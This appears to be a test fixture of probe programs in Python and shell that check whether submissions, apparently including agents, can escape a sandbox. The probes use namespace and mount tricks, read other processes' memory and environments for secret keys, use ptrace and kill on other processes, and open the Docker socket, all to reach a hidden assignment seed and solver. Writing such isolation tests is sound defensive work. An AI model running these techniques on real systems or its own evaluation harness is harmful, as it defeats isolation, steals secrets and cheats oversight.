"""Programs that try to get at what is hidden from submissions.

Each writes `STOLEN` and what it got to its standard error, or `nothing`, and ends with status 1.
"""

LOOK = """
import ctypes, glob, os, re, signal, socket, sys, time

libc = ctypes.CDLL(None, use_errno=True)
loot = []

def look(how, root=""):
    try:
        if "seed" in open(f"{root}{SPEC}").read():
            loot.append(f"assignment by {how}")
    except Exception:
        pass
    try:
        if "solver" in os.listdir(f"{root}{PACKAGE}"):
            loot.append(f"solver by {how}")
    except Exception:
        pass

def unmount():
    for line in open("/proc/self/mountinfo").read().splitlines()[::-1]:
        libc.umount2(line.split()[4].encode(), 2)

def attempt(how, act):
    try:
        act()
    except Exception:
        pass
    look(how)

def enter_new_namespace():
    if libc.unshare(0x10020000) == 0:
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {UID} 1")):
            open(f"/proc/self/{name}", "w").write(text)
    unmount()

def show_elsewhere():
    for flags in (4096, 4096 | 16384, 8192):
        libc.mount(PACKAGE.encode(), b"/tmp/x", None, flags, None)
    libc.mount(b"/", b"/tmp/x", None, 4096, None)
    look("a second mount", "/tmp/x")

def read_others():
    for process in glob.glob("/proc/[0-9]*"):
        look(f"{process}/root", f"{process}/root")
        for name in ("environ", "mem"):
            try:
                if b"sk-secret" in open(f"{process}/{name}", "rb").read(1 << 16):
                    loot.append(f"{process}/{name}")
            except OSError:
                pass
        if int(process[6:]) != os.getpid() and libc.ptrace(16, int(process[6:]), 0, 0) == 0:
            loot.append(f"traced {process}")

def join_others():
    for name in ("user", "mnt", "pid"):
        for process in glob.glob("/proc/[0-9]*"):
            libc.setns(os.open(f"{process}/ns/{name}", os.O_RDONLY), 0)

def read_environment():
    if "SECRET_KEY" in os.environ or b"sk-secret" in open("/proc/self/environ", "rb").read():
        loot.append("a key of the environment")

def write_files():
    for path in (SPEC + "2", PACKAGE + "/../sitecustomize2.py", OUTSIDE + "/x"):
        try:
            open(path, "w").write("x")
        except OSError:
            continue
        if not path.startswith("/tmp/"):
            loot.append(f"wrote {path}")

def read_devices():
    for device in glob.glob("/dev/vd*") + glob.glob("/dev/sd*") + glob.glob("/dev/nvme*n*"):
        try:
            open(device, "rb").read(1)
            loot.append(device)
        except OSError:
            pass

def kill_others():
    for process in (0, VICTIM):
        try:
            signal.signal(signal.SIGUSR1, signal.SIG_IGN)
            os.kill(process, signal.SIGUSR1 if process == 0 else signal.SIGKILL)
        except OSError:
            pass

def ask_services():
    for path in (SOCKET, "/run/docker.sock", "/run/dbus/system_bus_socket"):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
            loot.append(f"connected to {path}")
        except OSError:
            pass

def attack():
    os.makedirs("/tmp/x", exist_ok=True)
    look("opening it")
    for act in (unmount, enter_new_namespace, show_elsewhere, read_others, join_others,
                read_environment, write_files, read_devices, kill_others,
                ask_services):
        attempt(act.__name__, act)
    status = open("/proc/self/status").read()
    capabilities = re.findall(r"Cap(?:Prm|Eff|Bnd|Amb):\\s*(\\w+)", status)
    if any(int(each, 16) for each in capabilities):
        loot.append(f"capabilities {capabilities}")
    return "STOLEN " + ", ".join(dict.fromkeys(loot)) if loot else "nothing"
"""

AGENT = f"""{LOOK}
def agent(position):
    raise RuntimeError(attack())
"""

PROGRAM = f"""#!/usr/bin/env python3
{LOOK}
sys.exit(attack())
"""

SHELL = """#!/bin/sh
mkdir -p /tmp/x; rm -f /tmp/found
look() { grep -q seed "$1$SPEC" 2>/dev/null && echo "STOLEN assignment by $2" >&2
         [ -e "$1$PACKAGE/solver" ] && echo "STOLEN solver by $2" >&2; }
undo='cut -d" " -f5 /proc/self/mountinfo | tac | while read place; do umount -l "$place"; done'
{
  sh -c "$undo"; look "" umount
  unshare -Urm sh -c "$undo; grep seed $SPEC && touch /tmp/found"; look "" unshare
  nsenter -t 1 -m -U sh -c "cp $SPEC /tmp/found"; nsenter -t 1 -a true && touch /tmp/found
  mount --bind / /tmp/x; look /tmp/x bind; mount -o remount,rw /; look /proc/1/root root
  [ -e /tmp/found ] && echo "STOLEN by namespaces" >&3
} 3>&2 2>/tmp/errors
grep STOLEN /tmp/errors >&2 || echo nothing >&2
exit 1
"""
